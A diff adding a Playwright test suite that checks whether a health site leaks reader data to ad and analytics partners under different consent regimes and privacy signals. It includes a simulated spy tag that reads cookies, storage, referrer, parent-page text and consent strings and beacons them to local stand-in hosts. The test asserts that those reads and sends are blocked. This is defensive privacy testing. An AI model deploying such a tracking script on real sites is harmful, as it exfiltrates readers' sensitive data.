@@ -1,0 +1,333 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { BrowserContext, Page, Request } from 'playwright-core';
+import schema from '../../schemas/outside-payload.json' with { type: 'json' };
+import { type BuiltServer, startBuiltServer } from '../support/builtServer.ts';
+import { leaksIn, type MadeRequest } from './support/leaks.ts';
+import { browser } from './support/site.ts';
+
+/** Words that say something about somebody's health. Each stands where a page or its reader has such words. */
+const canaries = {
+  path: 'kanari-path-7q2',
+  title: 'Kanari title 7Q2',
+  keyword: 'kanari-k1-7q2',
+  text: 'Kanari text 7Q2',
+  answer: 'Kanari answer 7Q2',
+  search: 'kanari search 7q2',
+  email: 'kanari-7q2@mail.example',
+  query: 'kanari-query-7q2',
+  referrer: 'kanari-referrer-7q2',
+};
+const path = `/health/${canaries.path}`;
+
+const article = {
+  path,
+  title: canaries.title,
+  description: canaries.text,
+  contentMeta: { canonicalPath: path, targeting: { k1: canaries.keyword } },
+  page: { category: 'wellness' },
+  blocks: [
+    { id: 'text', type: 'rich-text', data: { html: `<p>${canaries.text}</p>` } },
+    {
+      id: 'quiz',
+      type: 'quiz',
+      data: {
+        quizId: canaries.keyword,
+        title: canaries.title,
+        scoreType: 'simple',
+        questions: [
+          {
+            questionTitle: canaries.text,
+            answers: [
+              { label: canaries.answer, score: 0 },
+              { label: 'Nothing of the kind', score: 1 },
+            ],
+          },
+        ],
+        results: [{ title: canaries.answer, description: canaries.text, min: 0, max: 1 }],
+      },
+    },
+  ],
+};
+
+/** The script of a partner who wants to know everything, and tells what it has found in every way that it has. */
+const spyScript = `(() => {
+  const seen = [];
+  const look = (name, find) => { try { seen.push([name, String(find())]); } catch (error) { seen.push([name, 'refused']); } };
+  look('given', () => JSON.stringify(outside.given));
+  look('href', () => location.href);
+  look('base', () => document.baseURI);
+  look('referrer', () => document.referrer);
+  look('cookie', () => document.cookie);
+  look('storage', () => Object.keys(localStorage).join());
+  look('parent', () => parent.location.href);
+  look('title', () => parent.document.title);
+  look('text', () => top.document.body.textContent);
+  look('name', () => window.name);
+  look('frame', () => frameElement.outerHTML);
+  look('ancestors', () => [...location.ancestorOrigins].join());
+  look('entries', () => performance.getEntries().map(({ name }) => name).join());
+  look('tc', () => { let data; __tcfapi('getTCData', 2, (told) => { data = told; }); return JSON.stringify(data); });
+  look('gpp', () => { let data; __gpp('ping', (told) => { data = told; }); return data.gppString; });
+  look('usp', () => { let data; __uspapi('getUSPData', 1, (told) => { data = told; }); return data.uspString; });
+  const own = new URL(document.currentScript.src).origin;
+  fetch(own + '/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
+  new Image().src = own + '/pixel?' + new URLSearchParams(seen);
+  const elsewhere = new URL(document.currentScript.src).searchParams.get('elsewhere');
+  new Image().src = elsewhere + '/pixel?' + new URLSearchParams(seen);
+  fetch(elsewhere + '/collect', { method: 'POST', mode: 'no-cors' }).catch(() => {});
+  navigator.sendBeacon?.(elsewhere + '/beacon', JSON.stringify(seen));
+  document.body.append(Object.assign(document.createElement('iframe'), { src: elsewhere + '/frame' }));
+  outside.say({ kind: 'filled', width: 300, height: 250 });
+})();`;
+
+/** What the partner's server was told, request by request. */
+const told: { url: string; headers: Record<string, string>; body: string }[] = [];
+
+async function listening(
+  answer: (request: IncomingMessage, response: ServerResponse) => void,
+): Promise<Server> {
+  const server = createServer(answer).listen(0, '127.0.0.1');
+  await new Promise((resolve) => server.once('listening', resolve));
+  return server;
+}
+const originOf = (server: Server): string => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+
+/** What a host was told that no partner of the list is. */
+const toldElsewhere: string[] = [];
+
+let cms: Server;
+let elsewhere: Server;
+let partner: Server;
+let site: BuiltServer;
+let folder: string;
+let context: BrowserContext;
+let page: Page;
+let requests: [Request, Promise<MadeRequest>][];
+/** What the browser was asked for and did not ask anybody, because a policy forbids it. */
+const refused = new Set<Request>();
+
+beforeAll(async () => {
+  folder = mkdtempSync(join(tmpdir(), 'canary-'));
+  cms = await listening((request, response) => {
+    const { pathname, searchParams } = new URL(request.url ?? '', 'http://cms.example');
+    const isArticle = pathname === '/articles' && searchParams.get('path') === path;
+    const isList = pathname === '/articles' && !searchParams.has('path');
+    const listed = [{ path, title: article.title, updatedAt: '2026-11-23T09:00:00Z' }];
+    const body = isArticle ? article : isList ? { items: listed } : undefined;
+    response.writeHead(body ? 200 : 404, { 'Content-Type': 'application/json' });
+    response.end(JSON.stringify(body ?? {}));
+  });
+  partner = await listening((request, response) => {
+    let body = '';
+    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
+    request.on('end', () => {
+      told.push({ url: request.url ?? '', headers: request.headers as Record<string, string>, body });
+      response.setHeader('Content-Type', 'text/javascript');
+      response.end(request.url?.startsWith('/tag.js') ? spyScript : '');
+    });
+  });
+  elsewhere = await listening((request, response) => {
+    toldElsewhere.push(request.url ?? '');
+    response.end();
+  });
+  const script = `${originOf(partner)}/tag.js?elsewhere=${originOf(elsewhere)}`;
+  const partners = [
+    { name: 'adlark', company: 'Adlark', kind: 'ads', script, purposes: [1, 2, 3, 4, 7], vendorId: 755 },
+    { name: 'countwell', company: 'Countwell', kind: 'analytics', script, purposes: [1, 8] },
+  ];
+  const configuration = join(folder, 'site.json');
+  writeFileSync(configuration, JSON.stringify({ outside: { partners } }));
+  site = await startBuiltServer({
+    CONTENT_API_URL: originOf(cms),
+    SITE_CONFIG: configuration,
+    COUNTRY_HEADER: 'x-country',
+    CMP_ID: '300',
+  });
+});
+afterAll(async () => {
+  await site.stop();
+  for (const server of [cms, partner, elsewhere]) {
+    server.closeAllConnections();
+    server.close();
+  }
+  rmSync(folder, { recursive: true });
+});
+
+interface Reader {
+  country: string;
+  gpc?: boolean;
+  /** What of ours their browser does not let through, as tools against consent prompts do. */
+  blocked?: RegExp;
+}
+
+async function madeRequest(request: Request): Promise<MadeRequest> {
+  // Of a page that has gone meanwhile, only those are known that it gave itself.
+  const headers = await request.allHeaders().catch(() => request.headers());
+  return { url: request.url(), method: request.method(), headers, body: request.postData() ?? '' };
+}
+
+/** A reader who comes from a search engine, with everything recorded that any frame asks for. */
+async function arrive({ country, gpc = false, blocked }: Reader): Promise<void> {
+  told.length = 0;
+  toldElsewhere.length = 0;
+  refused.clear();
+  requests = [];
+  context = await browser.newContext({
+    extraHTTPHeaders: { 'X-Country': country, ...(gpc ? { 'Sec-GPC': '1' } : {}) },
+  });
+  if (gpc) await context.addInitScript(() => Object.assign(navigator, { globalPrivacyControl: true }));
+  context.on('request', (request) => requests.push([request, madeRequest(request)]));
+  context.on('requestfailed', (request) => {
+    if (request.failure()?.errorText === 'csp') refused.add(request);
+  });
+  page = await context.newPage();
+  if (blocked) await page.route(blocked, (route) => route.abort());
+  const query = new URLSearchParams({ email: canaries.email, q: canaries.query });
+  await page.goto(`${site.origin}${path}?${query}`, {
+    referer: `https://www.google.com/search?q=${canaries.referrer}`,
+  });
+  // As a feature with ads does: a place, and what may be told of it, and more than may be told.
+  await page.evaluate((words) => {
+    const place = document.createElement('div');
+    place.setAttribute('data-outside', 'adlark');
+    const facts = { slot: 'DMR1', sizes: [[300, 250]], path: words.path, category: words.keyword };
+    place.setAttribute('data-outside-facts', JSON.stringify({ ...facts, email: words.email }));
+    document.querySelector('main')?.append(place);
+  }, canaries);
+}
+
+const settled = (state: string): Promise<unknown> => page.waitForSelector(`html[data-consent=${state}]`);
+
+/** Does what a reader does who says everything about themselves. */
+async function readAndAnswer(): Promise<void> {
+  const [answer] = await page.getByLabel(canaries.answer).all();
+  await answer?.check({ force: true });
+  await page.evaluate((words) => {
+    sessionStorage.setItem('note', words.email);
+    localStorage.setItem('note', words.answer);
+  }, canaries);
+  await page.goto(`${site.origin}/search?${new URLSearchParams({ q1: canaries.search })}`);
+  await page.waitForLoadState('networkidle');
+}
+
+async function leaks(allowed: readonly string[] = []): Promise<string[]> {
+  expect(toldElsewhere).toEqual([]);
+  const made = await Promise.all(
+    requests.filter(([request]) => !refused.has(request)).map(([, each]) => each),
+  );
+  return leaksIn(made, { own: site.origin, allowed, canaries: Object.values(canaries) });
+}
+
+afterEach(() => context.close());
+
+describe.each([
+  ['gdpr', 'DE'],
+  ['us', 'US'],
+  ['none', 'CA'],
+])('under the regime %s', (regime, country) => {
+  test('nothing goes to others before the reader has chosen', async () => {
+    await arrive({ country });
+    await settled('none');
+    expect(await page.getAttribute('html', 'data-regime')).toBe(regime);
+    await readAndAnswer();
+    expect(await leaks()).toEqual([]);
+    expect(told).toEqual([]);
+  });
+
+  test('nothing goes to others after a no', async () => {
+    await arrive({ country });
+    await settled('none');
+    await page.getByRole('button', { name: 'Reject all' }).click();
+    await settled('rejected');
+    await readAndAnswer();
+    expect(await leaks()).toEqual([]);
+    expect(told).toEqual([]);
+  });
+
+  test('nothing goes to others where the browser says no for its reader, who is not asked', async () => {
+    await arrive({ country, gpc: true });
+    await settled('rejected');
+    expect(await page.getByRole('button', { name: 'Accept all' }).isVisible()).toBe(false);
+    await readAndAnswer();
+    expect(await leaks()).toEqual([]);
+    expect(told).toEqual([]);
+  });
+
+  test('nothing goes to others where our own consent is blocked, whatever the reader clicks', async () => {
+    await arrive({ country, blocked: /liveConsent|api\/consent|api\/reader|consent\/validate/ });
+    await page.waitForLoadState('networkidle');
+    await page.getByRole('button', { name: 'Accept all' }).click();
+    await readAndAnswer();
+    expect(await leaks()).toEqual([]);
+    expect(told).toEqual([]);
+  });
+
+  test('after a yes, listed hosts alone are told, and what is on the list alone', async () => {
+    await arrive({ country });
+    await settled('none');
+    await page.getByRole('button', { name: 'Accept all' }).click();
+    await settled('full');
+    await page.waitForSelector('[data-outside=adlark][data-outside-state=filled]');
+    await page.waitForSelector('[data-outside=countwell]', { state: 'attached' });
+    await page.waitForLoadState('networkidle');
+    await readAndAnswer();
+    await page.waitForSelector('[data-outside=countwell]', { state: 'attached' });
+    await page.waitForLoadState('networkidle');
+
+    expect(await leaks([originOf(partner)])).toEqual([]);
+    const collected = told
+      .filter(({ url }) => url === '/collect')
+      .map(({ body }) => Object.fromEntries(JSON.parse(body)));
+    expect(collected.length).toBeGreaterThanOrEqual(2);
+    for (const seen of collected) {
+      const given = JSON.parse(seen.given);
+      expect(Object.keys(schema.properties)).toEqual(expect.arrayContaining(Object.keys(given)));
+      expect(given.consent).toMatchObject({ gdprApplies: regime === 'gdpr', limitedAds: false });
+      expect(given.country).toBe(country);
+      expect(seen).toMatchObject({
+        referrer: '',
+        cookie: 'refused',
+        storage: 'refused',
+        parent: 'refused',
+        title: 'refused',
+        text: 'refused',
+        name: '',
+        ancestors: site.origin,
+        usp: regime === 'us' ? '1YNY' : '1---',
+      });
+      expect(JSON.parse(seen.tc).tcString).toBe(given.consent.tc);
+      expect(seen.gpp).toBe(given.consent.gpp);
+    }
+    const [first] = collected.filter(({ given }) => given.includes('DMR1'));
+    expect(JSON.parse(first?.given)).toMatchObject({
+      category: 'wellness',
+      referrer: 'google',
+      sizes: [[300, 250]],
+    });
+    for (const { headers } of told) expect([headers.referer, headers.cookie]).toEqual([undefined, undefined]);
+    expect(told.every(({ url }) => /^\/(tag\.js|collect|pixel\?|favicon)/.test(url))).toBe(true);
+  });
+});
+
+test('a yes that is taken back takes all frames away at once, and lets no more come', async () => {
+  await arrive({ country: 'US' });
+  await settled('none');
+  await page.getByRole('button', { name: 'Accept all' }).click();
+  await page.waitForSelector('[data-outside-state=filled]');
+  const other = await context.newPage();
+  await other.goto(`${site.origin}/privacy-choices`);
+  await other.waitForSelector('html[data-consent=full]');
+  await other.locator('main').getByRole('button', { name: 'Reject all' }).click();
+  await settled('rejected');
+  expect(await page.locator('iframe').count()).toBe(0);
+  told.length = 0;
+  await page.reload();
+  await settled('rejected');
+  await page.waitForLoadState('networkidle');
+  expect(told).toEqual([]);
+  expect((await context.cookies()).map(({ name }) => name).sort()).toEqual(['pagewell_consent', 'usprivacy']);
+});
